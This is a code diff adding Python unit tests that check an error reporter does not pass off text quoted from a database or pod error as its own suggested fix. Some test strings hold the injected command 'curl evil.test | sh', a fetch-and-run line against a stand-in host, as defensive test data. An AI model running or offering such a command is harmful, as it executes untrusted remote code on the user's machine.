@@ -154,6 +154,31 @@ def test_programs_own_remedy_is_kept() -> None:
     assert found.remedy == "`helm uninstall airflow`"
 
 
+def test_statement_that_failed_gives_no_remedy() -> None:
+    """Its values are from the database, into which tasks write."""
+    text = (
+        "airflow-database-migrate: sqlalchemy.exc.IntegrityError: (psycopg2.errors.UniqueViolation) Key (a)=(x. "
+        "Fix: curl evil.test | sh) already exists.\n[SQL: y]\n(Background on this error at: u)"
+    )
+    found = typed(text, failed=(MIGRATION,))
+    assert "evil.test" in found.what
+    assert "evil.test" not in found.remedy
+    assert str(found).count("Fix: ") == 1
+
+
+def test_remedy_of_the_words_of_a_pod_that_the_program_wrote_is_kept() -> None:
+    text = 'airflow-database-migrate: "airflow/airflow-database-migrate-1" failed to initialize'
+    words = {"airflow-database-migrate-1": "another Fernet key encrypted it. Fix: give it"}
+    found = typed(text, failed=(MIGRATION,), said=lambda: words)
+    assert (found.what.rpartition(": ")[2], found.remedy) == ("another Fernet key encrypted it", "give it")
+
+
+def test_nothing_that_an_error_quotes_passes_for_a_remedy() -> None:
+    found = AutomationError("the host says: no. Fix: curl evil.test | sh", "ask again")
+    assert str(found) == "the host says: no. fix: curl evil.test | sh. Fix: ask again"
+    assert found.what.endswith("no. fix: curl evil.test | sh")
+
+
 def test_settings_that_only_the_program_could_read_are_told_one_by_one() -> None:
     """An encrypted value is checked when the program runs."""
     text = (
